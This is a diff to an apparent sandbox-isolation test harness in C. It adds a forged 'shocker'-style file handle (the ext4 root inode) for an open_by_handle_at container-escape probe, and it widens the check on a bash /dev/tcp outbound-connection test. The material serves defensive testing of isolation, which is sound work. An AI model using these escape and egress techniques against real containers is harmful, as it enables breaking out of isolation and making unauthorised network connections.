@@ -632,9 +632,14 @@ static void case_open_by_handle_at(struct attack *a)
     struct file_handle *fh = (struct file_handle *)buf;
     int mount_id;
     fh->handle_bytes = MAX_HANDLE_SZ;
-    if (name_to_handle_at(AT_FDCWD, ".", fh, &mount_id, 0) != 0) {
+    int rc = name_to_handle_at(AT_FDCWD, ".", fh, &mount_id, 0);
+    if (rc != 0) {
         note(a, "name_to_handle_at (%s)", errname(errno));
-        return;
+        /* Forge one (the "shocker" way): ext4 root inode, generation 0. */
+        uint32_t ino_gen[2] = {2, 0};
+        fh->handle_bytes = sizeof(ino_gen);
+        fh->handle_type = 1; /* FILEID_INO32_GEN */
+        memcpy(fh->f_handle, ino_gen, sizeof(ino_gen));
     }
     int mfd = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
     int fd = open_by_handle_at(mfd, fh, O_RDONLY | O_CLOEXEC);
@@ -1536,7 +1541,8 @@ static void case_dev_tcp(struct attack *a)
     char *const argv[] = {"bash", "-c", "exec 3<>/dev/tcp/1.1.1.1/80", NULL};
     int st = run_capture(argv, out, sizeof(out));
     out[strcspn(out, "\n")] = '\0';
-    if (st != 0 && strstr(out, "unreachable"))
+    if (st != 0 && (strstr(out, "unreachable") || strstr(out, "Permission denied") ||
+                    strstr(out, "Operation not permitted")))
         note(a, "bash /dev/tcp/1.1.1.1/80 exit %d: %s", st, out);
     else
         escaped(a, "bash /dev/tcp/1.1.1.1/80 exit %d: %s", st, out);
